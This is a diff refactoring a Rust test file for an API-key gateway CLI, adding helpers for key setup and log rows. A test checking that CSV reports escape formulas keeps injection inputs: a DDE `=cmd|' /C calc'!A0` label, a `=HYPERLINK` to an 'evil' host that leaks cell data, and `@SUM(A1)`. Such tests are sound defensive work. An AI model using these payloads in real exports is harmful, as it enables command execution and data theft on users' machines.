@@ -282,38 +282,28 @@ async fn numbers_the_store_cannot_hold_are_a_422_naming_the_field_not_a_500() {
     assert_no_panic(&log);
 }
 
-#[test]
-fn cli_csv_reports_escape_formula_model_names_and_key_labels() {
-    if !session_available("cli_csv_reports_escape_formula_model_names_and_key_labels") {
-        return;
+/// Adds the `providers` (OpenAI kind, nothing listening) and one key of the first, labelled
+/// `label`, through the CLI; returns the key's id.
+fn one_key(env: &TestEnv, providers: &[&str], label: &str) -> String {
+    for name in providers {
+        env.ok(
+            &[
+                "provider",
+                "add",
+                name,
+                "--kind",
+                "openai",
+                "--base-url",
+                "http://127.0.0.1:9",
+            ],
+            "",
+        );
     }
-    let env = TestEnv::new();
-    let label = "=cmd|' /C calc'!A0";
-    env.ok(
-        &[
-            "provider",
-            "add",
-            "fake",
-            "--kind",
-            "openai",
-            "--base-url",
-            "http://127.0.0.1:9",
-        ],
-        "",
-    );
     let out = env
         .keygate()
-        .args([
-            "key",
-            "add",
-            "--provider",
-            "fake",
-            "--label",
-            label,
-            "--secret-env",
-            "KG_CSV_SECRET",
-        ])
-        .env("KG_CSV_SECRET", "sk-fake-limits-csv-SECRET000001")
+        .args(["key", "add", "--provider", providers[0], "--label", label])
+        .args(["--secret-env", "KG_LIMITS_SECRET"])
+        .env("KG_LIMITS_SECRET", "sk-fake-limits-SECRET00000000001")
         .output()
         .expect("key add");
     assert!(
@@ -323,18 +313,21 @@ fn cli_csv_reports_escape_formula_model_names_and_key_labels() {
     );
     let listed: Vec<Value> =
         serde_json::from_str(&env.ok(&["--json", "key", "list"], "")).expect("key list");
-    let key_id = listed[0]["id"].as_str().expect("id").to_string();
-    let model = "=HYPERLINK(\"http://evil/\"&A1)";
-    let at = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
-    let row = |id: &str, model: &str| RequestRow {
+    listed[0]["id"].as_str().expect("id").to_string()
+}
+
+/// A served request's log row, as the writer would save it (10 prompt and 5 completion
+/// tokens of gpt-4o, unpriced).
+fn logged(id: &str, at: &str, provider: &str, key_id: &str) -> RequestRow {
+    RequestRow {
         id: id.into(),
-        at: at.clone(),
-        token: Some("@SUM(A1)".into()),
+        at: at.into(),
+        token: Some("cli".into()),
         endpoint: "/v1/chat/completions".into(),
-        model_requested: model.into(),
-        model_served: Some(model.into()),
-        provider: Some("fake".into()),
-        key_id: Some(key_id.clone()),
+        model_requested: "gpt-4o".into(),
+        model_served: Some("gpt-4o".into()),
+        provider: Some(provider.into()),
+        key_id: Some(key_id.into()),
         status: 200,
         error_class: None,
         attempts: Vec::new(),
@@ -345,6 +338,24 @@ fn cli_csv_reports_escape_formula_model_names_and_key_labels() {
         completion_tokens: Some(5),
         cached_tokens: None,
         cost_micros: None,
+    }
+}
+
+#[test]
+fn cli_csv_reports_escape_formula_model_names_and_key_labels() {
+    if !session_available("cli_csv_reports_escape_formula_model_names_and_key_labels") {
+        return;
+    }
+    let env = TestEnv::new();
+    let label = "=cmd|' /C calc'!A0";
+    let key_id = one_key(&env, &["fake"], label);
+    let model = "=HYPERLINK(\"http://evil/\"&A1)";
+    let at = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
+    let row = |id: &str, model: &str| RequestRow {
+        token: Some("@SUM(A1)".into()),
+        model_requested: model.into(),
+        model_served: Some(model.into()),
+        ..logged(id, &at, "fake", &key_id)
     };
     Store::open_in(&env.home())
         .expect("store")
@@ -384,62 +395,10 @@ fn a_month_report_sums_that_month_by_provider_and_key() {
         return;
     }
     let env = TestEnv::new();
-    for name in ["fake", "other"] {
-        env.ok(
-            &[
-                "provider",
-                "add",
-                name,
-                "--kind",
-                "openai",
-                "--base-url",
-                "http://127.0.0.1:9",
-            ],
-            "",
-        );
-    }
-    let out = env
-        .keygate()
-        .args([
-            "key",
-            "add",
-            "--provider",
-            "fake",
-            "--label",
-            "monthly",
-            "--secret-env",
-            "KG_MONTH_SECRET",
-        ])
-        .env("KG_MONTH_SECRET", "sk-fake-limits-month-SECRET0001")
-        .output()
-        .expect("key add");
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    let listed: Vec<Value> =
-        serde_json::from_str(&env.ok(&["--json", "key", "list"], "")).expect("key list");
-    let key_id = listed[0]["id"].as_str().expect("id").to_string();
+    let key_id = one_key(&env, &["fake", "other"], "monthly");
     let row = |id: &str, at: &str, provider: &str, cost: u64| RequestRow {
-        id: id.into(),
-        at: at.into(),
-        token: Some("cli".into()),
-        endpoint: "/v1/chat/completions".into(),
-        model_requested: "gpt-4o".into(),
-        model_served: Some("gpt-4o".into()),
-        provider: Some(provider.into()),
-        key_id: Some(key_id.clone()),
-        status: 200,
-        error_class: None,
-        attempts: Vec::new(),
-        latency_ms: 10,
-        ttfb_ms: None,
-        stream: false,
-        prompt_tokens: Some(10),
-        completion_tokens: Some(5),
-        cached_tokens: None,
         cost_micros: Some(cost),
+        ..logged(id, at, provider, &key_id)
     };
     Store::open_in(&env.home())
         .expect("store")
